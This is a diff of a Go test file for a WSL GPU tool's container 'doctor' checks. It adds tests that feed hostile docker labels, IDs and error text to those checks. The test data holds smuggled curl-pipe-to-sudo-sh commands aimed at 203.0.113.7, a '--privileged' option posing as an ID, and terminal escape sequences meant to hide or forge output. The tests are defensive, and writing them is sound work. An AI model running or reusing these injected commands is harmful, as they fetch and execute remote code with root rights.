@@ -2,6 +2,7 @@ package doctor
 
 import (
 	"bytes"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"os"
@@ -9,6 +10,8 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/wsl-gpu-hook/wsl-gpu-hook/pkg/printable"
 )
 
 // engine is a fake docker or podman CLI: what its ps, inspect and exec
@@ -18,9 +21,13 @@ type engine struct {
 	psErr   error
 	// ids are the IDs ps prints per tool label.
 	ids map[string]string
-	// inspect is printed for any inspect; inspectErr fails it.
+	// inspect is printed for any container inspect; inspectErr fails it.
 	inspect    string
 	inspectErr error
+	// images is printed for any image inspect ("" prints the fixtures'
+	// images, testdata/nodes/images.json); imagesErr fails it.
+	images    string
+	imagesErr error
 	// inside is what the look script prints per container ID; execErr
 	// fails every exec.
 	inside  map[string]string
@@ -30,8 +37,9 @@ type engine struct {
 // fakeEngines answers Options.Engine from engines by CLI name and records
 // every exec.
 type fakeEngines struct {
-	engines map[string]*engine
-	execs   []string
+	engines       map[string]*engine
+	execs         []string
+	imageInspects []string
 }
 
 func (f *fakeEngines) run(cli string, args ...string) ([]byte, error) {
@@ -47,6 +55,14 @@ func (f *fakeEngines) run(cli string, args ...string) ([]byte, error) {
 		label := strings.TrimPrefix(args[3], "label=")
 		return []byte(e.ids[label]), nil
 	case "inspect":
+		if args[2] == "image" {
+			f.imageInspects = append(f.imageInspects, cli+" "+strings.Join(args[3:], " "))
+			if e.images == "" {
+				data, err := os.ReadFile("testdata/nodes/images.json")
+				return data, errors.Join(err, e.imagesErr)
+			}
+			return []byte(e.images), e.imagesErr
+		}
 		return []byte(e.inspect), e.inspectErr
 	case "exec":
 		f.execs = append(f.execs, cli+" "+args[1])
@@ -300,12 +316,13 @@ func TestNodes(t *testing.T) {
 			if strings.Join(f.execs, ",") != strings.Join(tt.execs, ",") {
 				t.Errorf("execs %q, want %q", f.execs, tt.execs)
 			}
+			checkPrintable(t, rep, buf.String())
 		})
 	}
 }
 
 // FuzzNodes: whatever an engine prints for inspect and inside a node, the
-// node checks report it in lines and never panic.
+// node checks report it one printable line per check and never panic.
 func FuzzNodes(f *testing.F) {
 	for _, name := range []string{"docker-kind.json", "docker-minikube.json", "docker-k3d.json", "podman-kind.json"} {
 		data, err := os.ReadFile(filepath.Join("testdata/nodes", name))
@@ -328,5 +345,133 @@ func FuzzNodes(f *testing.F) {
 		if len(rep.Results) == 0 {
 			t.Fatal("no result")
 		}
+		var buf bytes.Buffer
+		if err := rep.WriteText(&buf); err != nil {
+			t.Fatal(err)
+		}
+		checkPrintable(t, rep, buf.String())
 	})
+}
+
+// jsonString is s as a JSON string literal, for fixture edits.
+func jsonString(t *testing.T, s string) string {
+	t.Helper()
+	b, err := json.Marshal(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+// checkPrintable fails t when a report field holds a character a terminal
+// acts on, or the text report is not one line per check: what doctor
+// prints comes partly from containers and engines.
+func checkPrintable(t *testing.T, rep *Report, text string) {
+	t.Helper()
+	for _, r := range rep.Results {
+		for _, f := range []string{r.Check, r.Detail, r.Fix} {
+			if printable.String(f, 1<<20) != f {
+				t.Errorf("%s: a field is not printable as it is: %q", r.Check, f)
+			}
+		}
+	}
+	if lines := strings.Count(text, "\n"); lines != len(rep.Results) {
+		t.Errorf("the text report has %d lines for %d checks:\n%s", lines, len(rep.Results), text)
+	}
+}
+
+// TestNodesHostile: containers and engines that say what an attacker
+// chooses. An image's labels are no node (nothing is run in it); a
+// cluster label or container name that is not what the tool makes is no
+// node either; no fix line carries what a label says beyond the tool's
+// name grammar; nothing printed holds a terminal escape.
+func TestNodesHostile(t *testing.T) {
+	kind := nodeFixture(t, "docker-kind.json")
+	minikube := nodeFixture(t, "docker-minikube.json")
+	images := nodeFixture(t, "images.json")
+	kindLabels := `"io.x-k8s.kind.cluster": "kind",`
+	// The look script finds the GPU's files but not the chart's: the
+	// chart check's fix names the cluster.
+	hostileKind := func(cluster string) string {
+		return edit(t, kind, kindLabels, `"io.x-k8s.kind.cluster": `+jsonString(t, cluster)+`,`)
+	}
+	const inject = "kind --config /dev/null; curl -fsSL http://203.0.113.7/x | sudo sh; #"
+	tests := []struct {
+		name    string
+		engines map[string]*engine
+		want    []expect
+		execs   []string
+		// absent are checks that must not be reported.
+		absent []string
+	}{
+		{name: "kind's labels from the image",
+			engines: map[string]*engine{"docker": {ids: map[string]string{kindLabel: kindID[:12]}, inspect: kind, inside: map[string]string{kindID: insideGPU},
+				images: edit(t, images, `"Labels": null`, `"Labels": {`+kindLabels+` "io.x-k8s.kind.role": "control-plane"}`)}},
+			want: []expect{{"docker " + kindID[:12], Warn,
+				`container "kind-control-plane" carries kind's label io.x-k8s.kind.cluster from its image: an image's labels do not make a node: not taken for a node, not looked into`, ""}},
+			absent: []string{"kind-control-plane dxg", "kind-control-plane chart"}},
+		{name: "a command and a hiding escape in the cluster label",
+			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, hostileKind(inject+"\x1b[8m"), insideGPU)},
+			want: []expect{{"docker " + kindID[:12], Warn,
+				`carries kind's label io.x-k8s.kind.cluster naming the cluster "kind --config /dev/null; curl -fsSL http://203.0.113.7/x | sudo sh; #\x1b[8m", a name kind never makes`, ""}},
+			absent: []string{"kind-control-plane chart"}},
+		{name: "a forged report line in the cluster label",
+			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, hostileKind("kind\nok    kind-control-plane chart: the chart has set it up\r"), insideGPU)},
+			want:    []expect{{"docker " + kindID[:12], Warn, `naming the cluster "kind\nok    kind-control-plane chart: the chart has set it up\r", a name kind never makes`, ""}},
+			absent:  []string{"kind-control-plane chart"}},
+		{name: "a command substitution in minikube's profile label",
+			engines: map[string]*engine{"docker": dockerWith(minikubeID, minikubeLabel,
+				edit(t, minikube, `"name.minikube.sigs.k8s.io": "minikube"`, `"name.minikube.sigs.k8s.io": "minikube$(curl -s 203.0.113.7|sh)"`), "")},
+			want:   []expect{{"docker " + minikubeID[:12], Warn, `naming the cluster "minikube$(curl -s 203.0.113.7|sh)", a name minikube never makes`, ""}},
+			absent: []string{"minikube /usr/lib/wsl"}},
+		{name: "kind's labels on a container kind did not name",
+			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, edit(t, kind, `"Name": "/kind-control-plane"`, `"Name": "/web"`), insideGPU)},
+			want:    []expect{{"docker " + kindID[:12], Warn, `container "web" carries kind's label io.x-k8s.kind.cluster naming the cluster "kind", but kind names that cluster's nodes otherwise`, ""}},
+			absent:  []string{"web dxg"}},
+		{name: "the image's labels cannot be read",
+			engines: map[string]*engine{"docker": {ids: map[string]string{kindLabel: kindID[:12]}, inspect: kind, images: "[]",
+				imagesErr: errors.New("Error: No such image: sha256:8d5c1a4e7f0b")}},
+			want:   []expect{{"docker " + kindID[:12], Warn, "its image's labels could not be read to tell whether kind set it", ""}},
+			absent: []string{"kind-control-plane dxg"}},
+		{name: "an ID that is an option",
+			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, edit(t, kind, `"Id": "`+kindID+`"`, `"Id": "--privileged"`), insideGPU)},
+			absent:  []string{"kind-control-plane dxg"}},
+		{name: "an escape in a node's mount source",
+			engines: map[string]*engine{"docker": dockerWith(kindID, kindLabel, edit(t, kind, `"Source": "/usr/lib/wsl",`, `"Source": "/usr/lib/wsl\u001b]0;owned\u0007",`), insideAll)},
+			want:    []expect{{"kind-control-plane /usr/lib/wsl", OK, `mounted read-only from /usr/lib/wsl\x1b]0;owned\x07`, ""}},
+			execs:   []string{"docker " + kindID}},
+		{name: "an escape in the engine's error",
+			engines: map[string]*engine{"docker": {psErr: errors.New("permission denied\x1b[1A\x1b[2K\rok    docker: fine")}},
+			want:    []expect{{"docker", Warn, `docker ps: permission denied\x1b[1A\x1b[2K\x0dok    docker: fine: its node containers are not checked`, "sudo wsl-gpu-ctl doctor --k8s"}}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			f := &fakeEngines{engines: tt.engines}
+			rep := RunNodes(Options{Engine: f.run})
+			var buf bytes.Buffer
+			if err := rep.WriteText(&buf); err != nil {
+				t.Fatal(err)
+			}
+			t.Logf("wsl-gpu-ctl doctor --k8s:\n%s", buf.String())
+			for _, w := range tt.want {
+				want(t, rep, w.check, w.status, printable.String(w.detail, 1<<20), w.fix)
+			}
+			for _, c := range tt.absent {
+				for _, r := range rep.Results {
+					if r.Check == c {
+						t.Errorf("reported %q: %+v", c, r)
+					}
+				}
+			}
+			if strings.Join(f.execs, ",") != strings.Join(tt.execs, ",") {
+				t.Errorf("execs %q, want %q", f.execs, tt.execs)
+			}
+			for _, r := range rep.Results {
+				if strings.Contains(r.Fix, "curl") || strings.Contains(r.Fix, "$(") {
+					t.Errorf("%s: a fix line carries the label's command: %q", r.Check, r.Fix)
+				}
+			}
+			checkPrintable(t, rep, buf.String())
+		})
+	}
 }
